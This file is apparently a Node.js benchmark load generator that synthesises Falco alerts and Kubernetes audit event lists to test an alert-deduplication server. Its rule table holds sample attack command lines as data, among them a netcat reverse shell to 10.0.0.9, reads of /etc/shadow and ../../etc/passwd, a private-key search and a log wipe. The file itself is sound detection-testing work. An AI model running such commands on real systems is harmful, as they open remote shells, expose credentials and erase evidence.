'use strict';
// Distinct events, as real ones are: every Falco event has its own uuid and nanosecond time; every audit
// event its own auditID. They spread over a set of pods, rules and priorities, and a stated share are
// true repeats (the same activity as an earlier event, in a new event) that fold into an existing alert.
// Bodies are built by string concatenation from pre-serialised parts, so the load generator (which
// shares the 2 cores with the server) spends little per request.
const { readFileSync } = require('node:fs');
const { resolve } = require('node:path');

const SAMPLES = resolve(__dirname, '..', 'examples', 'events');
/** The share of events that repeat an earlier activity (dedup folds them into the open alert). */
const REPEAT_SHARE = Number(process.env.BENCH_REPEAT_SHARE ?? 0.2);
const NAMESPACES = 20;

/** A small deterministic PRNG, so two runs send the same mix. */
function mulberry32(seed) {
  return () => {
    seed |= 0;
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// Falco's default rules that fire in containers, with their priorities.
const FALCO_RULES = [
  ['Terminal shell in container', 'Notice', 'bash'],
  ['Read sensitive file untrusted', 'Warning', 'cat /etc/shadow'],
  ['Drop and execute new binary in container', 'Critical', '/tmp/x'],
  ['Contact K8S API Server From Container', 'Notice', 'curl https://10.96.0.1'],
  ['Packet socket created in container', 'Notice', 'tcpdump -i eth0'],
  ['Netcat Remote Code Execution in Container', 'Warning', 'nc -e /bin/sh 10.0.0.9 4444'],
  ['Search Private Keys or Passwords', 'Warning', 'grep -r BEGIN /home'],
  ['Clear Log Activities', 'Warning', 'truncate -s0 /var/log/app.log'],
  ['Directory traversal monitored file read', 'Warning', 'cat ../../etc/passwd'],
  ['Run shell untrusted', 'Notice', 'sh -c id'],
  ['Debugfs Launched in Privileged Container', 'Warning', 'debugfs /dev/sda1'],
  ['Fileless execution via memfd_create', 'Critical', 'memfd:payload'],
];

/**
 * Falco events over `pods` pods (`pod-<k>` in `ns-<k mod 20>`, the names bench/state.js puts in the
 * cluster state). Returns `() => body`, a distinct event per call.
 */
function falcoEvents({ pods = 500, seed = 1, tag = `${process.pid}` } = {}) {
  const sample = JSON.parse(readFileSync(resolve(SAMPLES, 'falco-terminal-shell.json'), 'utf8'));
  const rng = mulberry32(seed);
  const recent = [];
  const t0 = 1762779060000000000n;
  let activities = 0;
  const activity = () => {
    if (recent.length && rng() < REPEAT_SHARE) return recent[Math.floor(rng() * recent.length)];
    const [rule, priority, cmd] = FALCO_RULES[Math.floor(rng() * FALCO_RULES.length)];
    const k = Math.floor(rng() * pods);
    const pod = `pod-${k}`;
    const ns = `ns-${k % NAMESPACES}`;
    // A new activity: its own command line (the fingerprint holds it), so it opens a new alert.
    const cmdline = `${cmd} --run ${tag}-${activities++}`;
    const fields = {
      ...sample.output_fields,
      'k8s.ns.name': ns,
      'k8s.pod.name': pod,
      'container.name': `app-${k % 3}`,
      'proc.cmdline': cmdline,
      'proc.name': cmdline.split(' ')[0].split('/').pop(),
    };
    delete fields['evt.time'];
    const output = `${priority} ${rule} | process=${fields['proc.name']} command=${cmdline} k8s_pod_name=${pod} k8s_ns_name=${ns}`;
    const a = {
      head: `,"output":${JSON.stringify(output)},"priority":"${priority}","rule":${JSON.stringify(rule)},"source":"syscall","hostname":"node-${k % 7}","tags":${JSON.stringify(sample.tags)},"output_fields":`,
      fields: JSON.stringify(fields).slice(0, -1),
    };
    recent.push(a);
    if (recent.length > 200) recent.shift();
    return a;
  };
  let i = 0;
  return () => {
    i++;
    const a = activity();
    const ns = t0 + BigInt(i) * 1_000_137n + BigInt(seed) * 1_000_000_000_000n;
    const time = nsTime(ns);
    return `{"uuid":"${uuid(tag, seed, i)}","time":"${time}"${a.head}${a.fields},"evt.time":${ns}}}`;
  };
}

/** RFC 3339 with nanoseconds, as Falco writes `time`. */
function nsTime(ns) {
  const ms = Number(ns / 1_000_000n);
  const frac = String(ns % 1_000_000_000n).padStart(9, '0');
  return `${new Date(ms).toISOString().slice(0, 19)}.${frac}Z`;
}

function uuid(tag, seed, i) {
  const hex = (n, w) => n.toString(16).padStart(w, '0').slice(-w);
  let h = 0;
  for (const c of String(tag)) h = (h * 31 + c.charCodeAt(0)) >>> 0;
  return `${hex(h, 8)}-${hex(seed, 4)}-4${hex(i >>> 16, 3)}-8${hex(i & 0xfff, 3)}-${hex(i, 12)}`;
}

/**
 * Audit EventLists of `size` events: mostly Metadata reads and updates by controllers (no rule cares),
 * some RequestResponse writes with their request and response objects, and one in ten alerting (the
 * samples' exec, cluster-admin binding and privileged pod). Returns `() => body`.
 */
function auditLists({ size = 100, seed = 2, tag = `${process.pid}` } = {}) {
  const sample = JSON.parse(readFileSync(resolve(SAMPLES, 'audit-eventlist.json'), 'utf8'));
  const rng = mulberry32(seed);
  const strip = (item) => {
    const { auditID: _a, ...rest } = item;
    return JSON.stringify(rest).slice(1);
  };
  const alerting = sample.items.map(strip);
  const benign = [];
  for (let k = 0; k < 300; k++) {
    const ns = `ns-${k % NAMESPACES}`;
    const write = k % 10 < 3; // three in ten are writes logged at RequestResponse
    const name = `cm-${k}`;
    const object = {
      kind: 'ConfigMap',
      apiVersion: 'v1',
      metadata: { name, namespace: ns, labels: { app: `app-${k % 40}` }, resourceVersion: String(100000 + k) },
      data: { 'config.yaml': `replicas: ${k % 5}\nlog: info\nfeature: ${'x'.repeat(200)}\n` },
    };
    benign.push(
      strip({
        kind: 'Event',
        apiVersion: 'audit.k8s.io/v1',
        level: write ? 'RequestResponse' : 'Metadata',
        auditID: '',
        stage: 'ResponseComplete',
        requestURI: `/api/v1/namespaces/${ns}/configmaps/${name}`,
        verb: write ? 'update' : k % 2 ? 'get' : 'list',
        user: {
          username: `system:serviceaccount:${ns}:controller-${k % 8}`,
          groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'],
        },
        sourceIPs: [`10.0.${k % 4}.${k % 250}`],
        userAgent: 'kube-controller-manager/v1.33.1',
        objectRef: { resource: 'configmaps', namespace: ns, name, apiVersion: 'v1' },
        responseStatus: { metadata: {}, code: 200 },
        ...(write ? { requestObject: object, responseObject: object } : {}),
        requestReceivedTimestamp: '2025-11-10T12:50:59.402118Z',
        stageTimestamp: '2025-11-10T12:50:59.431907Z',
        annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
      }),
    );
  }
  let n = 0;
  const head = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {} }).slice(0, -1);
  return () => {
    const items = [];
    for (let j = 0; j < size; j++) {
      const body = j % 10 === 0 ? alerting[Math.floor(rng() * alerting.length)] : benign[Math.floor(rng() * benign.length)];
      items.push(`{"auditID":"${uuid(tag, seed, n++)}",${body}`);
    }
    return `${head},"items":[${items.join(',')}]}`;
  };
}

module.exports = { falcoEvents, auditLists, mulberry32, REPEAT_SHARE, NAMESPACES };
